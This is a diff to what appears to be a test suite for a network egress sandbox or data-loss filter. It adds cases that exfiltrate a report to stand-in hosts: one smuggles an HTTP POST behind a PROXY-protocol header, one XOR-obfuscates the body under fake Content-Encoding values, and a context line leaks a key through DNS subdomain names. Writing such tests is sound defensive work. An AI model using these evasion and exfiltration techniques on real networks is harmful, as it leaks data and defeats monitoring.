@@ -39,6 +39,12 @@ def page(outcome):
     return sum(len(b"".join(r["data"].split(b".")[:-2])) // 2 for r in outcome.reached if r["kind"] == "query") > 2000
 
 
+def scrambled(outcome):
+    """The report with each byte turned round, which no view of it reads."""
+    hidden = bytes(b ^ 0x55 for b in PROSE[:60].encode())
+    return any(hidden in r["data"] for r in outcome.reached)
+
+
 def to_tenant(outcome):
     return any(r["kind"] == "request" and b"/other" in r["data"] for r in outcome.reached)
 
@@ -547,6 +553,27 @@ for line in lines:
         except OSError as e:
             print("no:", type(e).__name__, e)
 """, allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
+    NetAttempt(29, "what a proxy says before a request, in binary", "T1041|T1071.001", """
+said = b"POST /in HTTP/1.1\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
+signature = b"\\r\\n\\r\\n\\0\\r\\nQUIT\\n"
+for header in (b"\\x21\\x11\\0\\x0c" + bytes(range(12)), b"\\x20\\0\\0\\0"):
+    for parts in ([signature + header + said], [signature[:7], signature[7:], header, said]):
+        mark()
+        try:
+            with socket.create_connection(("opaque.example", 8080)) as s:
+                for part in parts:
+                    s.sendall(part)
+                    time.sleep(0.05)
+                s.settimeout(0.3)
+                s.recv(10)
+        except OSError as e:
+            print("no:", type(e).__name__, e)
+""", allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
+    NetAttempt(19, "a body in a coding that nobody undoes", "T1041|T1027", """
+hidden = bytes(b ^ 0x55 for b in report.encode())
+for coding in ("foo", "br", "gzip, foo"):
+    web("http://inspected.example/in", hidden, {"Content-Encoding": coding})
+""", rule="cannot_inspect", alert=False, effect=scrambled),
     NetAttempt(10, "a key in names below an allowed domain", "T1071.004", """
 query(KEY.lower() + ".carrier.example")
 query("-".join(pieces(KEY.lower(), 5)) + ".carrier.example")
